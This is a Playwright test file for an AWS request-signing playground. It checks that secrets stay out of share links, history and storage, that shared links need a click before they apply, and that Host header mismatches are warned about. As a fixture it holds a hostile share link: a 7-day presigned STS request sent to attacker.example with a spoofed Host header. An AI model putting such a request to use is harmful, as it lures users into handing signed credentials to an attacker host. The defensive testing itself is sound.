// A tool that holds real AWS keys must not be a way in: other people's secrets typed into the
// request stay out of storage, history and share links, and a share link never changes the
// request without the user's click. Against npm start, found by role and label (pages/playground).
import { expect, test } from '@playwright/test';
import { PlaygroundPage } from './pages/playground';

/** Each kind of credential a request can carry, with a value the test can look for. */
const SECRETS = {
  bearer: 'bearer-value-e2e-1f9c',
  basic: 'basic-pw-e2e-77ab',
  sigv4a: '3045022100sigv4a-e2e-c0de',
  cookie: 'cookie-value-e2e-5e5e',
  apiKey: 'api-key-e2e-4b1d',
  urlToken: 'url-token-e2e-90aa',
};

/** The texts that must never be found: each value, and the Basic header's Base64 too. */
const FORBIDDEN = [
  ...Object.values(SECRETS),
  Buffer.from(`alice:${SECRETS.basic}`).toString('base64'),
];

function expectNoSecret(text: string, where: string) {
  for (const secret of FORBIDDEN) expect(text, `${where} holds ${secret}`).not.toContain(secret);
}

/** The JSON a share link carries, decoded by hand (the test does not trust the page for it). */
function linkPayload(link: string): string {
  return Buffer.from(link.slice(link.indexOf('#share=') + '#share='.length), 'base64url').toString(
    'utf8',
  );
}

/** A share link holding exactly this request, as another page (or an attacker) could make it. */
function shareLinkFor(request: Record<string, unknown>): string {
  return `/#share=${Buffer.from(JSON.stringify({ v: 1, ...request })).toString('base64url')}`;
}

/** What the attacker swapped in: a 7-day presigned request to their host, for STS. */
const HOSTILE_REQUEST = {
  method: 'GET',
  url: 'https://attacker.example/collect?Action=GetCallerIdentity&Version=2011-06-15',
  headers: [{ name: 'Host', value: 'sts.amazonaws.com', signed: true }],
  body: '',
  bodyDropped: false,
  region: 'us-east-1',
  service: 'sts',
  options: {
    mode: 'query',
    expiresIn: '604800',
    payload: 'signed',
    contentSha256Header: null,
    s3PathRules: null,
    signSessionToken: true,
    algorithm: 'sigv4',
    regionSet: '',
  },
};

test.describe('other people’s secrets', () => {
  test.describe.configure({ mode: 'serial' });
  test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

  test('credential headers and a token in the URL are not stored, kept in history or shared', async ({
    page,
  }) => {
    const playground = new PlaygroundPage(page);
    await playground.open();
    // curl --user without --aws-sigv4 becomes an Authorization: Basic header.
    expect(
      await playground.importText(
        `curl -X POST 'http://127.0.0.1:5174/prod/hello?a=1&X-Amz-Security-Token=${SECRETS.urlToken}' --user 'alice:${SECRETS.basic}' -H 'Cookie: session=${SECRETS.cookie}' -H 'X-Api-Key: ${SECRETS.apiKey}' -H 'Content-Type: application/json' -d '{"hello":"world"}'`,
      ),
    ).toContain('Imported a curl command');
    await playground.addHeader('Authorization', `Bearer ${SECRETS.bearer}`);
    await playground.addHeader(
      'Authorization',
      `AWS4-ECDSA-P256-SHA256 Credential=AKIDEXAMPLE/20260101/execute-api/aws4_request, SignedHeaders=host, Signature=${SECRETS.sigv4a}`,
    );
    await playground.addHeader('X-Custom', 'kept-e2e');
    await expect(playground.url).toHaveValue(new RegExp(SECRETS.urlToken));
    expect(await playground.send()).toMatch(/^200\b/);

    // Share link: none of them, and the page says which it left out.
    const link = await playground.copyShareLink();
    expectNoSecret(link, 'the share link');
    expectNoSecret(linkPayload(link), 'the share link’s request');
    expect(linkPayload(link)).toContain('kept-e2e');
    await expect(
      playground.page.getByText(/Link copied, without .*Cookie.*X-Api-Key/),
    ).toBeVisible();

    // History: none of them, and the entry says so.
    await expect(playground.historyEntries).toHaveCount(1);
    await expect(playground.historyEntries.first()).toContainText(
      'not kept: Cookie, X-Api-Key, Authorization, X-Amz-Security-Token',
    );

    // Storage, read raw: none of them, before and after a reload.
    expectNoSecret(await playground.storedText(), 'localStorage');
    await page.reload();
    await expect(playground.artifact('Signature')).toContainText(/[0-9a-f]{64}/);
    expectNoSecret(await playground.storedText(), 'localStorage after the reload');
    expect(await playground.storedText()).toContain('kept-e2e');

    // The form says what to paste again; the rows are there, empty.
    await expect(playground.credentialsNotKept).toContainText(
      'the value of the Cookie, X-Api-Key and Authorization headers; X-Amz-Security-Token in the URL',
    );
    await expect(playground.url).toHaveValue('http://127.0.0.1:5174/prod/hello?a=1');
    const emptied = playground.headerValues.and(page.getByPlaceholder('not kept: paste it again'));
    await expect(emptied).toHaveCount(5);
    for (const field of await emptied.all()) await expect(field).toHaveValue('');
  });

  test('a credential header not kept across a reload is not signed or sent until pasted again', async ({
    page,
  }) => {
    const playground = new PlaygroundPage(page);
    await playground.open();
    await playground.addHeader('X-Api-Key', SECRETS.apiKey);
    const toSend = playground.artifact('Request to send');
    const authorization = playground.artifact('Authorization header');
    await expect(toSend.getByText('X-Api-Key', { exact: true })).toHaveCount(1);
    await expect(authorization).toContainText('x-api-key');

    await page.reload();
    await expect(playground.artifact('Signature')).toContainText(/[0-9a-f]{64}/);
    const emptied = playground.headerValues.and(page.getByPlaceholder('not kept: paste it again'));
    await expect(emptied).toHaveValue('');
    // Left out, and the steps say so, rather than an empty X-Api-Key the server would refuse.
    await expect(toSend.getByRole('note', { name: 'Headers not sent' })).toContainText('X-Api-Key');
    const sentHeader = toSend.getByText('X-Api-Key', { exact: true });
    await expect(sentHeader).toHaveCount(0);
    await expect(authorization).not.toContainText('x-api-key');
    expect(await playground.send()).toMatch(/^200\b/);

    await emptied.fill('pasted-again');
    await expect(sentHeader).toHaveCount(1);
    await expect(toSend).toContainText('pasted-again');
    await expect(toSend.getByRole('note', { name: 'Headers not sent' })).toHaveCount(0);
    await expect(authorization).toContainText('x-api-key');
  });

  test('a share link changes nothing until "Open this request", on load or on hashchange', async ({
    page,
  }) => {
    const playground = new PlaygroundPage(page);
    await playground.open();
    // The victim's own request, saved in this browser.
    await playground.setRequest({ body: 'mine', method: 'PUT' });
    const mine = { method: 'PUT', url: 'http://127.0.0.1:5174/prod/hello', body: 'mine' };
    const expectMine = async () => {
      await expect(playground.method).toHaveValue(mine.method);
      await expect(playground.url).toHaveValue(mine.url);
      await expect(playground.body).toHaveValue(mine.body);
      await expect(page.getByRole('radio', { name: /^Authorization header\b/ })).toBeChecked();
    };

    // Opened as a link (a fresh load, the request restored from storage): shown beside the
    // request, with what to be wary of, and nothing changed.
    await page.goto('about:blank');
    await page.goto(shareLinkFor(HOSTILE_REQUEST));
    await expect(playground.artifact('Signature')).toContainText(/[0-9a-f]{64}/);
    await expectMine();
    await expect(playground.sharedRequest).toBeVisible();
    await expect(playground.sharedRequest).toContainText('attacker.example');
    await expect(playground.sharedRequest).toContainText('604800 s (7 days)');
    await expect(playground.sharedRequestWarnings).toContainText(
      'Host header (sts.amazonaws.com) that is not the URL',
    );
    await expect(playground.sharedRequestWarnings).toContainText('sends to attacker.example');
    await expect(playground.sharedRequestWarnings).toContainText('presigned URL');
    await playground.dismissSharedRequest();
    await expectMine();

    // The fragment set from outside while the page is open (a hashchange): the same.
    await page.evaluate((fragment) => {
      window.location.hash = fragment;
    }, shareLinkFor(HOSTILE_REQUEST).slice(1));
    // The page has read the fragment (and removed it) by the time the address bar is clean.
    await expect.poll(() => new URL(page.url()).hash).toBe('');
    await expectMine();
    await expect(playground.sharedRequest).toBeVisible();

    // Only the click applies it; then the Host header is flagged where it is edited and sent.
    await playground.openSharedRequest();
    await expect(playground.url).toHaveValue(HOSTILE_REQUEST.url);
    await expect(playground.method).toHaveValue('GET');
    await expect(page.getByRole('radio', { name: /^Presigned URL\b/ })).toBeChecked();
    await expect(page.getByText(/This Host header says sts\.amazonaws\.com/)).toBeVisible();
  });

  test('a Host header that differs from the URL’s host is warned about, in the form and the steps', async ({
    page,
  }) => {
    const playground = new PlaygroundPage(page);
    await playground.open();
    await playground.addHeader('Host', 'sts.amazonaws.com');
    await expect(
      page.getByText(
        /This Host header says sts\.amazonaws\.com, but the URL sends to 127\.0\.0\.1:5174/,
      ),
    ).toBeVisible();
    await expect(
      playground.artifact('Request to send').getByRole('note', { name: 'Host header warning' }),
    ).toContainText(
      'The Host header says sts.amazonaws.com, but this request goes to 127.0.0.1:5174',
    );
    // The one-click fix writes the URL's host, and the warnings go.
    await page.getByRole('button', { name: /^Fix: 127\.0\.0\.1:5174/ }).click();
    await expect(page.getByText(/This Host header says/)).toHaveCount(0);
    await expect(
      playground.artifact('Request to send').getByRole('note', { name: 'Host header warning' }),
    ).toHaveCount(0);
  });

  test('a damaged or over-long share link changes nothing and says so', async ({ page }) => {
    const playground = new PlaygroundPage(page);
    await playground.open();
    await page.goto(shareLinkFor({ ...HOSTILE_REQUEST, credentials: { secretAccessKey: 'x' } }));
    await expect(playground.sharedRequest).toContainText('could not be read');
    await expect(playground.method).toHaveValue('POST');
    await playground.dismissSharedRequest();
  });
});
